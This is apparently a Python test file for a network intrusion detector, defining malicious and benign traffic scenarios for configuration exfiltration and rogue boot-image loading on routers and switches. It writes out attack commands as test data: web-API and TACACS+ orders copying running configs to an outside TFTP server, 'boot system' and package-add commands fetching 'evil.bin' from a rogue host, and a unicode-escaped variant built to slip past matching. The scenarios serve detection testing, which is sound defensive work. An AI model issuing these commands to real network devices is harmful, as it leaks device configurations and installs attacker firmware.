"""BW18 and BW07: sends and loads by web management and AAA, in every vendor's form."""

from __future__ import annotations

import json

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, HQ, OUTSIDE, ROGUE
from bootwarden.traffic import ftp, http, images, tftp
from bootwarden.traffic.tacacs import Device
from bootwarden.traffic.wire import Wire

EAPI, IOS, WSMA, NXAPI, ROUTEROS = 1542007430, 1542007432, 1542007434, 1542007436, 1542007442
AAA = "10.0.9.30"


def posted(value: object) -> bytes:
    """A body in JSON."""
    return json.dumps(value).encode()


def sent(last: int, file: str) -> Notice:
    """The notice of one order."""
    return Notice("Config_Exfiltration", f"10.0.1.{last}", OUTSIDE, file)


def orders(wire: Wire, client: str, server: str) -> None:
    """Six devices are told to send something to a server."""
    copy = f"copy running-config tftp://{server}/x.cfg"
    http.order(wire, client, "10.0.1.1", f"/level/15/exec/-/copy/running-config/tftp:%2f%2f{server}%2fx.cfg/CR")
    http.order(wire, client, "10.0.1.2", f"/level/15/exec/-/monitor/capture/c/export/tftp:%2f%2f{server}%2fx.pcap/CR")
    eapi = {"jsonrpc": "2.0", "method": "runCmds", "params": {"version": 1, "cmds": ["enable", copy]}}
    http.order(wire, client, "10.0.1.3", "/command-api", posted(eapi).replace(b"/", b"\\/"))
    nxapi = f"<ins_api><version>1.0</version><type>cli_show</type><input>{copy}</input></ins_api>"
    http.order(wire, client, "10.0.1.4", "/ins", nxapi.encode())
    wsma = f'<request xmlns="urn:cisco:wsma-exec"><execCLI xsd="false"><cmd>{copy}</cmd></execCLI></request>'
    http.order(wire, client, "10.0.1.5", "/webui_wsma_http", wsma.encode())
    fetch = {"address": server, "src-path": "x.backup", "mode": "ftp", "upload": "yes"}
    http.order(wire, client, "10.0.1.6", "/rest/tool/fetch", posted(fetch))


SENT = (sent(1, "x.cfg"), sent(2, "x.pcap"), *(sent(n, "x.cfg") for n in (3, 4, 5)), sent(6, "x.backup"))


@scenario(
    "BW18",
    "malicious",
    raises=[
        ("BW18", sid, ATTACKER, f"10.0.1.{last}") for last, sid in enumerate((IOS, IOS, EAPI, NXAPI, WSMA, ROUTEROS), 1)
    ],
    plain=Expect(SENT),
    site=HQ,
    with_site=Expect(SENT),
)
def bw18_web_sends(wire: Wire) -> None:
    """By IOS' browser interface, eAPI, NX-API, WSMA and RouterOS REST devices are told to send across the border."""
    orders(wire, ATTACKER, OUTSIDE)


@scenario("BW18", "benign", site=HQ, with_site=Expect())
def bw18_web_backups(wire: Wire) -> None:
    """Administrators have the same sent to the declared server."""
    orders(wire, ADMIN, BOOT_SERVER)


JUNOS_BODY = 1542007460


@scenario(
    "BW07",
    "malicious",
    raises=[
        ("BW07", 1542007422, ATTACKER, "10.0.1.1"),
        ("BW07", 1542007414, ATTACKER, "10.0.1.2"),
        ("BW07", JUNOS_BODY, ATTACKER, "10.0.1.3"),
    ],
    site=HQ,
    with_site=Expect(
        (
            *(Notice("Boot_Command", f"10.0.1.{n}", ROGUE, "evil.bin") for n in (1, 2, 3)),
            Notice("Boot_Command", "10.0.1.4", ROGUE, "evil.bin"),
        )
    ),
)
def bw07_web_less_usual(wire: Wire) -> None:
    """RouterOS with address and path, WSMA with a block of lines, Junos with tags in the body, JSON with \\u0063."""
    fetch = {"address": ROGUE, "src-path": "evil.bin", "mode": "tftp"}
    http.order(wire, ATTACKER, "10.0.1.1", "/rest/tool/fetch", posted(fetch))
    block = f"<cli-config-data-block>hostname x\nboot system tftp://{ROGUE}/evil.bin\n</cli-config-data-block>"
    wsma = f'<request xmlns="urn:cisco:wsma-config"><configApply>{block}</configApply></request>'
    http.order(wire, ATTACKER, "10.0.1.2", "/wsma/config", wsma.encode())
    package = f"<request-package-add><package-name>ftp://{ROGUE}/evil.bin</package-name></request-package-add>"
    http.order(wire, ATTACKER, "10.0.1.3", "/rpc", package.encode())
    eapi = {"jsonrpc": "2.0", "method": "runCmds", "params": {"cmds": [f"boot system tftp://{ROGUE}/evil.bin"]}}
    http.order(wire, ATTACKER, "10.0.1.4", "/command-api", posted(eapi).replace(b"boot", b"\\u0062oo\\u0074"))


WORDS = (
    # last, detection, sid, command
    (11, "BW18", 1542007452, f"copy running-config tftp://{OUTSIDE}/x.cfg"),
    (12, "BW18", 1542007452, f"monitor capture cap export ftp://{OUTSIDE}/x.pcap"),
    (13, "BW18", 1542007452, f"show tech-support | redirect tftp://{OUTSIDE}/x.txt"),
    (14, "BW18", 1542007455, f"tftp {OUTSIDE} put x.zip"),
    (15, "BW18", 1542007455, f"transfer upload serverip {OUTSIDE}"),
    (16, "BW07", 1542007450, f"copy tftp flash {OUTSIDE} evil.bin"),
    (17, "BW07", 1542007454, f"request system software add ftp://{OUTSIDE}/evil.tgz"),
    (18, "BW07", 1542007454, f"tftp {OUTSIDE} get evil.cc"),
)
FILES = {11: "x.cfg", 12: "x.pcap", 13: "x.txt", 14: "x.zip", 15: None, 16: "evil.bin", 17: "evil.tgz", 18: "evil.cc"}
ASKED = tuple(
    Notice("Boot_Command" if detection == "BW07" else "Config_Exfiltration", f"10.0.1.{last}", OUTSIDE, FILES[last])
    for last, detection, _, _ in WORDS
)


@scenario(
    "BW18",
    "malicious",
    raises=[(detection, sid, f"10.0.1.{last}", AAA) for last, detection, sid, _ in WORDS],
    plain=Expect(ASKED),
    site=HQ,
    with_site=Expect(ASKED),
)
def bw18_tacacs_word_by_word(wire: Wire) -> None:
    """Devices ask leave by TACACS+ in clear, word by word, for what sends and loads across the border."""
    for last, _, _, command in WORDS:
        device = Device(wire, f"10.0.1.{last}", AAA)
        device.authorize(command, source=ATTACKER)
        device.close()


@scenario("BW18", "benign", site=HQ, with_site=Expect())
def bw18_tacacs_backups(wire: Wire) -> None:
    """The same from administrators, with the declared server, and what only looks."""
    for last, command in (
        (11, f"copy running-config tftp://{BOOT_SERVER}/x.cfg"),
        (14, f"tftp {BOOT_SERVER} put x.zip"),
        (16, "copy running-config startup-config"),
        (17, f"ping {OUTSIDE}"),
        (18, f"show archive tftp://{OUTSIDE}/x"),
    ):
        device = Device(wire, f"10.0.1.{last}", AAA)
        device.authorize(command, source=ADMIN)
        device.close()


SHOWN = (
    b"\n------------------ show version ------------------\n\nCisco IOS Software, C2900 Software, Version 15.7(3)M8\n"
)
PCAP = b"\xd4\xc3\xb2\xa1\x02\x00\x04\x00" + bytes(16) + b"captured packets " * 90
PCAPNG = b"\x0a\x0d\x0d\x0a\x1c\x00\x00\x00\x4d\x3c\x2b\x1a" + bytes(16) + b"captured packets " * 90
LEAVING = ((21, "a.dat", PCAP), (22, "b.dat", PCAPNG), (23, "c.txt", SHOWN + b"Compiled Mon 03-Aug-20\n" * 60))


@scenario(
    "BW18",
    "malicious",
    raises=[("BW18", 2, f"10.0.1.{last}", OUTSIDE) for last, *_ in LEAVING],
    site=HQ,
    with_site=Expect(
        tuple(Notice("Config_Exfiltration", f"10.0.1.{last}", OUTSIDE, name) for last, name, _ in LEAVING)
    ),
)
def bw18_captures_leave(wire: Wire) -> None:
    """Devices write captured packets, in both formats, and `show tech-support` to a TFTP server outside."""
    for last, name, content in LEAVING:
        tftp.write(wire, f"10.0.1.{last}", OUTSIDE, name, content)


@scenario("BW18", "benign", site=HQ, with_site=Expect())
def bw18_captures_at_home(wire: Wire) -> None:
    """They write them to the declared server; a host that is no device sends its own; a capture is read."""
    for last, name, content in LEAVING:
        tftp.write(wire, f"10.0.1.{last}", BOOT_SERVER, name, content)
    tftp.write(wire, "10.20.1.5", "10.20.1.9", "mine.pcap", PCAP)
    tftp.read(wire, "10.0.1.24", BOOT_SERVER, "replay.pcap", PCAP)


TAKER = "10.20.6.66"
"""A host inside that nobody declared."""


@scenario(
    "BW18",
    "malicious",
    raises=[],
    site=HQ,
    with_site=Expect(
        (
            Notice("Config_Exfiltration", "10.0.1.31", TAKER, "edge31.cfg"),
            Notice("Config_Exfiltration", "10.0.1.32", TAKER, "/edge32.cfg"),
            Notice("Config_Exfiltration", "10.0.1.33", TAKER, "tac.pcap"),
            Notice("Config_Exfiltration", "10.0.1.34", ROGUE, "edge34.cfg"),
        )
    ),
)
def bw18_by_ftp_and_http(wire: Wire) -> None:
    """Devices hand configurations and captured packets to a host that is not declared, by FTP and HTTP."""
    ftp.store(wire, "10.0.1.31", TAKER, "edge31.cfg", images.config("edge31"))
    http.put(wire, "10.0.1.32", TAKER, "/edge32.cfg", images.config("edge32"))
    ftp.store(wire, "10.0.1.33", TAKER, "tac.pcap", PCAP)
    # Among the devices' addresses: nothing is brought to it.
    ftp.store(wire, "10.0.1.34", ROGUE, "edge34.cfg", images.config("edge34"), client_port=50022, extended=True)
